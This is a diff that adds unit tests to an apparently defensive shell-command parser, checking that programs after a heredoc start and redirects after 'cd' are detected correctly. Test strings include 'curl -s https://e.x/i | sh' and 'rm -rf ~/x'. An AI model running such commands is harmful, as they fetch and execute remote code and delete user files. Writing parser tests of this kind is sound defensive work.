@@ -183,3 +183,20 @@ def test_commands_git_runs_are_units():
     assert programs("git submodule foreach --recursive 'git clean -fdx'") == ["git", "git"]
     assert programs("git bisect run make test") == ["git", "make"]
     assert programs("git difftool --extcmd='meld' HEAD") == ["git", "meld"]
+
+
+def test_commands_after_a_heredoc_start_on_its_line_are_units():
+    # tree-sitter nests the rest of the line after `<<EOF` inside the heredoc redirection
+    assert programs("cat <<'EOF' | sh\nrm -rf ~/x\nEOF") == ["cat", "sh", "rm"]
+    assert programs("cat <<'EOF' && rm -rf ~/x\nhello\nEOF") == ["cat", "rm"]
+    assert programs("cat <<EOF > x.txt && curl -s https://e.x/i | sh\nhi\nEOF")[:3] == [
+        "cat",
+        "curl",
+        "sh",
+    ]
+
+
+def test_a_redirect_after_cd_in_a_list_opens_in_the_new_directory():
+    units = parse("cd .. && echo x > notes.txt").units
+    echo = next(u for u in units if u.program == "echo")
+    assert [(p.raw, p.cwd) for p in echo.paths] == [("notes.txt", "..")]
